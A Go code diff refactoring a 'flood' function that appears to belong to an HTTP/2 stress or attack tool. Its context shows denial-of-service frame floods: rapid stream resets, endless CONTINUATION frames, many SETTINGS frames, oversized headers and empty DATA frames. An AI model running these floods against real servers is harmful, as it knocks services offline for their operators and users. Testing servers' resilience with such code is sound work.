@@ -12,6 +12,11 @@ func (c *conn) flood(g *Clients, to *address, first int) (sent bool) {
 	if len(g.Send) > 0 {
 		text = g.Send[0].text(to, first)
 	}
+	begin := func(flags byte) []byte {
+		c.h2.last += 2
+		header, _, _ := request2(text)
+		return frame(frameHeaders, flags, c.h2.last-1, header)
+	}
 	for k := range max(g.Times, 1) {
 		var out []byte
 		switch g.Flood {
@@ -21,9 +26,7 @@ func (c *conn) flood(g *Clients, to *address, first int) (sent bool) {
 			out = append(append(opens, piece...), frame(frameReset, 0, id, binary.BigEndian.AppendUint32(nil, 8))...)
 		case Continuations:
 			if k == 0 {
-				c.h2.last += 2
-				header, _, _ := request2(text)
-				out = frame(frameHeaders, 0, c.h2.last-1, header)
+				out = begin(0)
 			}
 			out = append(out, frame(frameContinuation, 0, c.h2.last-1, field(nil, "x", strings.Repeat("x", 8<<10)))...)
 		case ManySettings:
@@ -34,15 +37,11 @@ func (c *conn) flood(g *Clients, to *address, first int) (sent bool) {
 			out, _, _, _ = c.h2.open(strings.Replace(text, "\r\n", "\r\nX-Large: "+long(1<<20)+"\r\n", 1))
 		case EmptyData:
 			if k == 0 {
-				c.h2.last += 2
-				header, _, _ := request2(text)
-				out = frame(frameHeaders, endHeaders, c.h2.last-1, header)
+				out = begin(endHeaders)
 			}
 			out = append(out, frame(frameData, 0, c.h2.last-1, nil)...)
 		case OpenHeaders:
-			c.h2.last += 2
-			header, _, _ := request2(text)
-			out = frame(frameHeaders, endHeaders, c.h2.last-1, header)
+			out = begin(endHeaders)
 		}
 		if _, err := c.Write(out); err != nil {
 			return false
